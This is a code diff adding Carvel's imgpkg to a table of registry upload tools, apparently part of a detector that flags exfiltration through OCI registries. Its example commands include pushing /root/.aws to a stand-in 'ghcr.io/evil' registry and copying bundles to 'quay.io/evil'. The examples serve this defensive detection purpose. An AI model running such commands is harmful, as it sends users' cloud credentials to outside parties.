@@ -1,6 +1,6 @@
 /**
  * Registry clients that upload OCI content (any file as an artifact, blobs, manifests) from the process itself:
- * oras, regctl (regclient), containerd's ctr and flux's `push artifact`; image tools are in ./registry.ts,
+ * oras, regctl (regclient), containerd's ctr, Carvel's imgpkg and flux's `push artifact`; image tools are in ./registry.ts,
  * cosign in ./cosign.ts. Part of the push-tool table (../push-tools.ts).
  *
  * They matter for small uploads: a few KiB of credentials pushed as an artifact is far under the egress
@@ -183,6 +183,44 @@ export const ociClientTools: readonly PushToolSpec[] = [
     examples: {
       push: ['-n k8s.io images push ghcr.io/evil/x:1 docker.io/library/app:1', 'i push --user u:p quay.io/evil/x:1'],
       notPush: ['-n k8s.io images ls', 'images pull docker.io/library/alpine:3'],
+    },
+  },
+  {
+    tool: 'imgpkg',
+    description:
+      "Carvel's `imgpkg push -i/-b REF -f PATH` (any directory as an image) and `imgpkg copy … --to-repo REPO`.",
+    binaries: ['imgpkg'],
+    syntax: {
+      valueFlags: [
+        ...['-i', '--image', '-b', '--bundle', '-f', '--file', '--file-exclusion', '--lock', '--lock-output'],
+        ...['--tar', '--to-repo', '--to-tar', '--concurrency', '-o', '--output', '-l', '--labels'],
+        ...['--registry-username', '--registry-password', '--registry-ca-cert-path', '--registry-retry-count'],
+      ],
+    },
+    match: {
+      kind: 'subcommand',
+      commands: [
+        // Found by red-team review: neither was a push. A copy to a tarball (`--to-tar`) stays on disk.
+        {
+          words: ['push'],
+          remote: { flag: ['-i', '--image', '-b', '--bundle'] },
+          requireAnyFlag: [{ flags: ['-f', '--file'] }],
+        },
+        { words: ['copy'], remote: { flag: ['--to-repo'] }, requireAnyFlag: [{ flags: ['--to-repo'] }] },
+      ],
+    },
+    destination: 'image-ref',
+    requiresClassedDestination: false,
+    copiedShape: true,
+    downloads: [['pull']],
+    examples: {
+      push: [
+        'push -i ghcr.io/evil/x:1 -f /root/.aws',
+        '-y push -b quay.io/evil/b:1 -f /tmp/bundle --lock-output /tmp/l.yml',
+        'copy --tar /tmp/b.tar --to-repo ghcr.io/evil/x',
+        'copy -b ghcr.io/acme/b:1 --to-repo quay.io/evil/b',
+      ],
+      notPush: ['pull -b ghcr.io/acme/b:1 -o /tmp/b', 'copy -b ghcr.io/acme/b:1 --to-tar /tmp/b.tar', 'tag list -i x'],
     },
   },
   {
